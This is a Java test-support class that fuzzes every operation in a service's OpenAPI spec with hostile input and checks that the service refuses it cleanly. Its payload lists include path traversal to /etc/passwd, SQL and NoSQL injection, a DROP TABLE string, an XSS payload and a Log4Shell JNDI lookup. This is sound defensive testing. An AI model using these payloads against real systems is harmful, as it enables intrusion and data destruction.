package vn.thidua.testsupport.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import vn.thidua.testsupport.identity.TestIdentity;
import vn.thidua.testsupport.identity.TestUser;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Every operation of a service's OpenAPI document fed hostile input by a user holding every role: bad path and
 * query values, malformed, huge, deeply nested, mistyped, wrongly encoded and injected JSON, the wrong media type.
 * Nothing may answer 5xx; every refusal is problem+json; input that cannot be read changes nothing.
 */
public final class HostileInputs {

    private static final Set<String> METHODS = Set.of("get", "post", "put", "patch", "delete");
    private static final Pattern PATH_VARIABLE = Pattern.compile("\\{([A-Za-z0-9_]+)}");
    private static final List<String> HOSTILE_VALUES = List.of("../../etc/passwd", "' OR '1'='1", "{\"$ne\":null}",
            "%00", "x".repeat(3_000), "ạ̷̛̖͓̈́b̸");
    private static final List<String> INJECTIONS = List.of("'; DROP TABLE domainevententry; --",
            "<img src=x onerror=alert(1)>", "${jndi:ldap://example.invalid/a}");

    private record Planned(String operation, String input, String method, String pathAndQuery, String contentType,
                           byte[] body, boolean mustRefuse) {
    }

    /** What was sent and what came back, for the report. */
    public record Exchange(String operation, String input, int status, String contentType, boolean mustRefuse) {
        boolean problemJson() {
            return contentType != null && contentType.startsWith("application/problem+json");
        }
    }

    private final String baseUrl;
    private final TestIdentity identity;
    private final TestUser user;
    private final Map<String, String> values = new LinkedHashMap<>();
    private final Map<String, Supplier<?>> probes = new LinkedHashMap<>();
    private final Set<String> skipped = new java.util.LinkedHashSet<>();
    private final Set<String> refuseOnly = new java.util.LinkedHashSet<>();
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
    private final ObjectMapper json = new ObjectMapper();
    private JsonNode document;

    private HostileInputs(String baseUrl, TestIdentity identity, TestUser user) {
        this.baseUrl = baseUrl;
        this.identity = identity;
        this.user = user;
    }

    /** The service at {@code baseUrl}, called as {@code user} (give them every role over the sample data). */
    public static HostileInputs of(String baseUrl, TestIdentity identity, TestUser user) {
        return new HostileInputs(baseUrl, identity, user);
    }

    /** A real value for a path variable, so that a body is read past the lookup of what it addresses. */
    public HostileInputs value(String pathVariable, String value) {
        values.put(pathVariable, value);
        return this;
    }

    /** State that unreadable input must leave as it was (e.g. the event store's row count). */
    public HostileInputs unchanged(String name, Supplier<?> probe) {
        probes.put(name, probe);
        return this;
    }

    /** An operation that gets only input it must refuse: accepted input would change what other tests share. */
    public HostileInputs refuseOnly(String operation) {
        refuseOnly.add(operation);
        return this;
    }

    /** An operation left out ("POST /api/x"), with the reason in the caller's comment. */
    public HostileInputs skip(String operation) {
        skipped.add(operation);
        return this;
    }

    /** Sends everything; returns what broke the rules (empty when the service withstood it all). */
    public List<String> violations(List<Exchange> log) {
        document = read("/v3/api-docs");
        List<Planned> plan = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> paths = document.path("paths").fields(); paths.hasNext(); ) {
            Map.Entry<String, JsonNode> path = paths.next();
            for (Iterator<Map.Entry<String, JsonNode>> operations = path.getValue().fields(); operations.hasNext(); ) {
                Map.Entry<String, JsonNode> operation = operations.next();
                if (!METHODS.contains(operation.getKey())) continue;
                String method = operation.getKey().toUpperCase();
                if (skipped.contains(method + " " + path.getKey())) continue;
                attack(method, path.getKey(), operation.getValue(), plan);
            }
        }
        // first what must be refused, with the state compared around it; then what may be accepted
        Map<String, Object> before = snapshot();
        plan.stream().filter(Planned::mustRefuse).forEach(planned -> log.add(send(planned)));
        Map<String, Object> after = snapshot();
        plan.stream().filter(planned -> !planned.mustRefuse() && !refuseOnly.contains(planned.operation()))
                .forEach(planned -> log.add(send(planned)));
        List<String> violations = new ArrayList<>();
        for (Exchange exchange : log) {
            String what = exchange.operation() + " with " + exchange.input() + ": ";
            if (exchange.status() >= 500) violations.add(what + "answered " + exchange.status());
            else if (exchange.mustRefuse() && exchange.status() < 400) violations.add(what + "accepted (" + exchange.status() + ")");
            else if (exchange.status() >= 400 && !exchange.problemJson())
                violations.add(what + exchange.status() + " is not problem+json (" + exchange.contentType() + ")");
        }
        if (!before.equals(after)) violations.add("refused input changed state: before " + before + ", after " + after);
        return violations;
    }

    private void attack(String method, String path, JsonNode operation, List<Planned> log) {
        String name = method + " " + path;
        List<String> variables = new ArrayList<>();
        Matcher matcher = PATH_VARIABLE.matcher(path);
        while (matcher.find()) variables.add(matcher.group(1));
        boolean writes = !method.equals("GET");
        for (String variable : variables) {
            for (String hostile : HOSTILE_VALUES) {
                String input = "{" + variable + "}=" + abbreviate(hostile);
                log.add(new Planned(name, input, method, expand(path, variable, hostile), null, null, true));
            }
        }
        String target = expand(path, null, null);
        for (JsonNode parameter : operation.path("parameters")) {
            if (!"query".equals(parameter.path("in").asText())) continue;
            String query = parameter.path("name").asText();
            for (String hostile : List.of("2024-13-45", "-99999999999999999999", "x".repeat(3_000))) {
                String url = target + "?" + query + "=" + URLEncoder.encode(hostile, StandardCharsets.UTF_8);
                log.add(new Planned(name, "?" + query + "=" + abbreviate(hostile), method, url, null, null, false));
            }
        }
        if (!writes || operation.path("requestBody").isMissingNode()) return;
        log.add(new Planned(name, "text/plain", method, target, "text/plain", "title=x".getBytes(StandardCharsets.UTF_8), true));
        JsonNode schema = operation.path("requestBody").path("content").path("application/json").path("schema");
        if (schema.isMissingNode()) {
            log.add(new Planned(name, "JSON for a form", method, target, "application/json", "{\"file\": 1}".getBytes(StandardCharsets.UTF_8), true));
            return;
        }
        Map<String, byte[]> unreadable = new LinkedHashMap<>();
        unreadable.put("malformed JSON", "{\"title\": ".getBytes(StandardCharsets.UTF_8));
        unreadable.put("an array for an object", "[]".getBytes(StandardCharsets.UTF_8));
        unreadable.put("a bare string", "\"x\"".getBytes(StandardCharsets.UTF_8));
        unreadable.put("nesting 100000 deep", ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8));
        unreadable.put("invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
        for (Map.Entry<String, byte[]> body : unreadable.entrySet()) {
            log.add(new Planned(name, body.getKey(), method, target, "application/json", body.getValue(), true));
        }
        JsonNode resolved = resolve(schema);
        for (Iterator<Map.Entry<String, JsonNode>> properties = resolved.path("properties").fields(); properties.hasNext(); ) {
            Map.Entry<String, JsonNode> property = properties.next();
            JsonNode wrong = wrongType(resolve(property.getValue()));
            if (wrong == null) continue;
            ObjectNode body = sample(resolved);
            body.set(property.getKey(), wrong);
            log.add(new Planned(name, "wrong type for " + property.getKey() + " (" + abbreviate(wrong.toString()) + ")", method,
                    target, "application/json", body.toString().getBytes(StandardCharsets.UTF_8), true));
        }
        ObjectNode huge = sample(resolved);
        huge.put("x" + UUID.randomUUID(), "x".repeat(1_000_000));
        resolved.path("properties").fieldNames().forEachRemaining(field -> {
            if (resolve(resolved.path("properties").path(field)).path("type").asText().equals("string")
                    && !resolve(resolved.path("properties").path(field)).has("enum")) huge.put(field, "ạ".repeat(100_000));
        });
        log.add(new Planned(name, "a huge body", method, target, "application/json", huge.toString().getBytes(StandardCharsets.UTF_8), false));
        for (String injection : INJECTIONS) {
            ObjectNode body = sample(resolved);
            resolved.path("properties").fieldNames().forEachRemaining(field -> {
                if (resolve(resolved.path("properties").path(field)).path("type").asText().equals("string")) body.put(field, injection);
            });
            log.add(new Planned(name, "injection " + abbreviate(injection), method, target, "application/json",
                    body.toString().getBytes(StandardCharsets.UTF_8), false));
        }
    }

    private String expand(String path, String hostileVariable, String hostile) {
        Matcher matcher = PATH_VARIABLE.matcher(path);
        StringBuilder out = new StringBuilder();
        while (matcher.find()) {
            String variable = matcher.group(1);
            String value = variable.equals(hostileVariable) ? hostile
                    : values.getOrDefault(variable, UUID.randomUUID().toString());
            matcher.appendReplacement(out, Matcher.quoteReplacement(URLEncoder.encode(value, StandardCharsets.UTF_8)
                    .replace("+", "%20")));
        }
        matcher.appendTail(out);
        return out.toString();
    }

    private Exchange send(Planned planned) {
        String operation = planned.operation();
        String input = planned.input();
        byte[] body = planned.body();
        boolean mustRefuse = planned.mustRefuse();
        String contentType = planned.contentType();
        String method = planned.method();
        String pathAndQuery = planned.pathAndQuery();
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(baseUrl + pathAndQuery))
                .timeout(Duration.ofSeconds(60)).header("Authorization", identity.bearer(user))
                .header("Accept", "application/json, application/problem+json");
        if (contentType != null) request.header("Content-Type", contentType);
        request.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        try {
            HttpResponse<Void> response = http.send(request.build(), HttpResponse.BodyHandlers.discarding());
            return new Exchange(operation, input, response.statusCode(),
                    response.headers().firstValue("Content-Type").orElse(null), mustRefuse);
        } catch (IOException e) {
            return new Exchange(operation, input + " (connection: " + e + ")", 599, null, mustRefuse);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** A body with a plausible value for every property, so that a single wrong one is what gets judged. */
    private ObjectNode sample(JsonNode schema) {
        ObjectNode body = JsonNodeFactory.instance.objectNode();
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields(); properties.hasNext(); ) {
            Map.Entry<String, JsonNode> property = properties.next();
            body.set(property.getKey(), plausible(resolve(property.getValue())));
        }
        return body;
    }

    private JsonNode plausible(JsonNode schema) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        if (schema.has("enum")) return schema.path("enum").get(0);
        return switch (schema.path("type").asText()) {
            case "integer", "number" -> nodes.numberNode(1);
            case "boolean" -> nodes.booleanNode(true);
            case "array" -> nodes.arrayNode();
            case "object" -> nodes.objectNode();
            default -> nodes.textNode("date".equals(schema.path("format").asText()) ? "2025-03-01" : "Dân vận khéo");
        };
    }

    private static JsonNode wrongType(JsonNode schema) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        if (schema.has("enum")) return nodes.textNode("NOT_A_VALUE");
        return switch (schema.path("type").asText()) {
            case "integer", "number" -> nodes.textNode("mười");
            case "boolean" -> nodes.textNode("có lẽ");
            case "array" -> nodes.objectNode().put("not", "a list");
            case "object" -> nodes.arrayNode().add(1);
            case "string" -> "date".equals(schema.path("format").asText()) ? nodes.textNode("31/02/2025")
                    : ((ArrayNode) nodes.arrayNode().add("a")).add("list");
            default -> null;
        };
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode current = schema;
        for (int hops = 0; current.has("$ref") && hops < 10; hops++) {
            String ref = current.path("$ref").asText();
            current = document.at(ref.substring(1));
        }
        if (current.has("allOf") && current.path("allOf").size() == 1) return resolve(current.path("allOf").get(0));
        return current;
    }

    private Map<String, Object> snapshot() {
        Map<String, Object> state = new LinkedHashMap<>();
        probes.forEach((name, probe) -> state.put(name, Objects.toString(probe.get())));
        return state;
    }

    private JsonNode read(String path) {
        try {
            HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(baseUrl + path)).GET().build(),
                    HttpResponse.BodyHandlers.ofString());
            if (response.statusCode() != 200) throw new IllegalStateException(path + " answered " + response.statusCode());
            return json.readTree(response.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static String abbreviate(String text) {
        return text.length() <= 40 ? text : text.substring(0, 37) + "…(" + text.length() + ")";
    }
}
